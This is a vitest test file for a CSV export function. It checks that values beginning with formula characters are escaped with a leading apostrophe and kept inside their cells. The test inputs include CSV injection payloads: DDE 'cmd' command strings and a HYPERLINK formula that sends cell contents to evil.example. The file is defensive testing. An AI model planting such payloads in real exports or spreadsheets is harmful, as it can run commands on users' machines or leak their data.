import { expect, it } from 'vitest'
import { scriptVectors } from '#tests/support/script-vectors.ts'
import { formField } from '#tests/support/forms.ts'
import { toCsv } from './write-csv.ts'

const entryOf = (values: Record<string, string | string[]>) => ({
  id: 1,
  receiptNumber: 'K7MR-2X9D',
  createdAt: 0,
  updatedAt: 0,
  waiting: 0,
  values,
})
const cellsOf = (label: string, value: string | string[]) => {
  const csv = toCsv({ fields: [formField({ field_id: 'field', label })] }, [entryOf({ field: value })], true)
  const cells = [...csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)]
  expect(cells.map(([cell]) => cell).join('')).toBe(csv)
  return cells.map(([, text = '']) => text.replaceAll('""', '"'))
}

it.each([
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1+1',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
])('what a reader or an editor wrote is no formula: %j', (text) => {
  const [, , , , label, , , , , value] = [...cellsOf(text, text)]
  expect([label, value]).toEqual([`'${text}`, `'${text}`])
  expect(cellsOf('label', [text, 'more']).at(-1)).toBe(`'${text}; more`)
})

it('what a reader or an editor wrote stays in its cell of the CSV, whatever it is', () => {
  for (const text of [...scriptVectors, '","=1+1', '"\r\n"=1+1', "'", '潮水 1 = 2'])
    expect(cellsOf('label', text).at(-1)?.replace(/^'/, '')).toBe(text.replace(/^'/, ''))
  expect(cellsOf('label', '潮水 1 = 2').at(-1)).toBe('潮水 1 = 2')
})
